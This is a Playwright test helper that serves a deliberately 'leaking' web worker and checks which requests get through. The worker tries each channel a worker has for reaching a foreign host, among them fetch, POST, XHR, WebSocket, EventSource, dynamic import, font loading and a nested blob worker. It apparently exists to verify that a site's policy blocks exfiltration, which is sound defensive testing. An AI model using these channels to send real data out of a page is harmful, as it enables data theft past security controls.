import type { Page } from '@playwright/test';
import type { Answer } from '../../../scripts/serve.mjs';

/** Where the worker that leaks stands: among the program's own workers. */
const path = '_app/immutable/workers/leak.js';

/** A worker that tries to send data to a host elsewhere in every way that a worker has, one after the other. */
function leak() {
	const settled = (start: (done: () => void) => void) =>
		new Promise<void>((resolve) => {
			start(resolve);
			setTimeout(resolve, 3000);
		});
	const attempts: ((host: string) => Promise<unknown>)[] = [
		(host) => fetch(`${host}/fetch`),
		(host) => fetch(`${host}/post`, { method: 'POST', mode: 'no-cors', body: 'data' }),
		(host) =>
			settled((done) => {
				const request = new XMLHttpRequest();
				request.onloadend = done;
				request.open('GET', `${host}/xhr`);
				request.send();
			}),
		(host) => settled((done) => (new WebSocket(`${host.replace('http', 'ws')}/webSocket`).onerror = done)),
		(host) => settled((done) => (new EventSource(`${host}/eventSource`).onerror = done)),
		(host) => import(/* @vite-ignore */ `${host}/dynamicImport`),
		(host) => new FontFace('leak', `url(${host}/font)`).load(),
		(host) =>
			settled((done) => {
				const text = `fetch('${host}/nested').finally(() => postMessage(''))`;
				const nested = new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
				nested.onmessage = done;
				nested.onerror = done;
			}),
		() => fetch('../../../?own-host')
	];
	self.onmessage = async ({ data }: MessageEvent<string>) => {
		for (const attempt of attempts) await attempt(data).catch(() => undefined);
		self.postMessage('done');
	};
}

/** Puts the leaking worker on a site, and notes what reaches the site's own host. */
export const siteWithLeak = (heard: string[]) => ({
	extra: (asked: string): Answer | undefined =>
		asked === `/${path}` ? { type: 'text/javascript', body: `(${leak.toString()})()` } : undefined,
	asked: (address: string) => {
		if (address.includes('own-host')) heard.push('own host');
	}
});

/** Starts the leaking worker in a page and waits until it has tried everything. */
export const runLeak = (page: Page, host: string) =>
	page.evaluate(
		([script, host]) =>
			new Promise((resolve, reject) => {
				const worker = new Worker(script, { type: 'module' });
				worker.onmessage = resolve;
				worker.onerror = () => reject(new Error('the worker did not start'));
				worker.postMessage(host);
			}),
		[path, host]
	);
